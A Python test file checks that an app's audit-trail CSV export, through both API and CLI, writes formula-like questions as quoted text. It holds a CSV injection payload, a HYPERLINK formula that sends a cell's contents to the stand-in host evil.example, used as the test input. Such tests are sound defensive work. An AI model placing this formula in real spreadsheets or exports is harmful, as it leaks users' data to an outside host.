"""The audit CSV export (API and CLI) writes a question that looks like a formula as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from jurisgraph import migrations
from jurisgraph.app import create_app
from jurisgraph.cli.main import app as cli
from jurisgraph.config import load_settings
from tests.fixtures.accounts import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"abrir")'


def test_a_formula_question_is_exported_as_text(tmp_path: Path) -> None:
    settings = load_settings()
    migrations.upgrade(settings.database_url)
    with TestClient(create_app(settings)) as client:
        sign_in(client)
        assert client.post("/api/v1/ask", json={"question": FORMULA, "relator": "@SUM(1)"}).status_code == 200
        exported = client.get("/api/v1/queries/export", params={"format": "csv"}).text
    (row,) = list(csv.DictReader(io.StringIO(exported)))
    assert row["query"] == "'" + FORMULA
    assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@")) for value in row.values())

    out = tmp_path / "trail.csv"
    result = CliRunner().invoke(cli, ["queries", "export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["query"] == "'" + FORMULA
